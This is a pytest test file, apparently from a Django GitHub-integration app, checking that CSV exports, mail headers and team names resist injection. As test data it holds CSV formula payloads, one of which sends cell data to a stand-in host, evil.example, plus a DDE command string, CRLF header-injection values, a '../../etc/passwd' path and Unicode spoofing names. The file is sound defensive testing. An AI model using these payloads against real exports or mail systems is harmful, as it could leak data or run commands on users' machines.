"""Values that others choose, where they could mean more than text: spreadsheets, headers, lines."""

from __future__ import annotations

import csv
import io
import re
from typing import TYPE_CHECKING, Any, Final

import pytest
from asgiref.sync import async_to_sync
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from integrations.constants import TeamRole
from integrations.models import MemberChange, RepositoryAccess, SyncRun, Team, TeamInvitation
from integrations.services import credentials, invitations
from tests.factories import (
    PASSWORD,
    GitHubIntegrationFactory,
    TeamMemberFactory,
    TrackedRepositoryFactory,
)

if TYPE_CHECKING:
    from django.test import Client

    from integrations.models import User

pytestmark = pytest.mark.django_db

# https://owasp.org/www-community/attacks/CSV_Injection
FORMULAS: Final = (
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
)  # fmt: skip
SIGNS: Final = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
HEADER_ENDS: Final = ("\r\nBcc: all@example.com", "\nBcc: all@example.com", "\rX: y", "\u2028X: y")


def cells(client: Client, path: str) -> list[list[str]]:
    response: Any = client.get(path)
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="[a-z0-9-]+\.csv"', disposition)

    async def gathered() -> bytes:
        return b"".join([part async for part in response])

    text = async_to_sync(gathered)().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


class TestSpreadsheets:
    @pytest.mark.parametrize("formula", FORMULAS)
    def test_no_cell_of_any_export_is_a_formula(
        self, formula: str, client: Client, acme: Team, alice: User
    ) -> None:
        integration = GitHubIntegrationFactory(team=acme)
        member = TeamMemberFactory(
            team=acme, github_username=formula, name=formula, email=formula, role=formula[:10]
        )
        repository = TrackedRepositoryFactory(
            integration=integration, is_tracked=True, full_name=formula
        )
        RepositoryAccess.objects.create(
            repository=repository, github_id=member.github_id, github_username=formula,
            permission=formula,
        )  # fmt: skip
        run = SyncRun.objects.create(integration=integration, kind="members", trigger="manual")
        preview = SyncRun.objects.create(integration=integration, kind="preview", trigger="manual")
        moved = {"github_id": 1, "github_username": formula, "fields": {formula: ["a", formula]}}
        preview.planned_changes.create(kind="renamed", **moved)
        MemberChange.objects.create(
            team=acme, run=run, kind="renamed", at=timezone.now(), webhook_event=formula, **moved
        )
        client.force_login(alice)
        exports = [
            reverse(name, args=[acme.slug])
            for name in ("github_members_csv", "github_access_csv", "github_history_csv")
        ]
        exports += [reverse("github_run_csv", args=[acme.slug, one.pk]) for one in (run, preview)]
        for path in exports:
            _, *rows = cells(client, path)
            [row] = rows
            assert any(formula in cell for cell in row), path
            assert not [cell for cell in row if cell.startswith(SIGNS)], path


class TestHeaders:
    @pytest.mark.parametrize("name", ["a\r\nX: y", '"; x="', "../../etc/passwd", "é 日本", "a;b"])
    def test_a_file_s_name_is_plain(self, name: str, client: Client, alice: User) -> None:
        team = Team.objects.create_for(alice, name=name)
        client.force_login(alice)
        cells(client, reverse("github_members_csv", args=[team.slug]))

    @pytest.mark.parametrize("end", HEADER_ENDS)
    def test_a_team_s_name_ends_no_header_of_a_mail(
        self, end: str, acme: Team, alice: User
    ) -> None:
        """Also one that was written past the form, as an operator may."""
        Team.objects.filter(pk=acme.pk).update(name=f"Acme{end}")
        acme.refresh_from_db()
        invitations.invite(acme, "dora@example.com", TeamRole.MEMBER, by=alice)
        credential = GitHubIntegrationFactory(team=acme).credential
        credentials.revoke(credential)
        credentials.notify_admins(credential.pk)
        assert [one.to for one in mail.outbox] == [["dora@example.com"], [alice.email]]
        for one in mail.outbox:
            headers = str(one.message()).partition("\n\n")[0]
            assert "Bcc" not in one.message()
            assert not re.search(r"^X:", headers, re.MULTILINE)

    @pytest.mark.parametrize("end", HEADER_ENDS)
    def test_an_address_ends_none_either(
        self, end: str, client: Client, acme: Team, alice: User
    ) -> None:
        client.force_login(alice)
        for name, fields in (
            ("team_invite", {"email": f"dora@example.com{end}", "role": "member"}),
            ("account_reset_password", {"email": f"{alice.email}{end}"}),
            ("account_email", {"email": f"dora@example.com{end}", "action_add": ""}),
        ):
            args = [acme.slug] if name == "team_invite" else []
            assert client.post(reverse(name, args=args), fields).status_code in {200, 400}
        assert mail.outbox == []
        assert not TeamInvitation.objects.exists()

    def test_a_cookie_or_an_address_adds_no_header(self, client: Client) -> None:
        for value in ("de\r\nX-Evil: 1", "de\nX-Evil: 1", "\0"):
            response = client.post(reverse("set_language"), {"language": value, "next": value})
            assert "X-Evil" not in response.headers
            assert "\n" not in response.headers.get("Location", "")


class TestNames:
    @pytest.mark.parametrize(
        ("typed", "kept"),
        [
            ("Acme\u202e gnp.exe", "Acme gnp.exe"),
            ("\u2066Acme\u2069\r\n  Ltd\x07", "Acme Ltd"),
            ("מוצר \u200fשלנו", "מוצר שלנו"),
            ("👩\u200d💻 Zoë", "👩\u200d💻 Zoë"),
        ],
    )
    def test_a_team_s_reads_as_it_was_typed(
        self, typed: str, kept: str, client: Client, acme: Team, alice: User
    ) -> None:
        client.force_login(alice)
        client.post(reverse("team_settings", args=[acme.slug]), {"team_name": typed})
        acme.refresh_from_db()
        assert acme.name == kept

    def test_one_of_nothing_to_be_seen_is_none(self, client: Client) -> None:
        fields = {"email": "dora@example.com", "password1": PASSWORD, "team_name": "\u202e\u2066"}
        response = client.post(reverse("account_signup"), fields)
        assert response.status_code == 200
        assert "team_name" in response.context["form"].errors
        assert not Team.objects.exists()
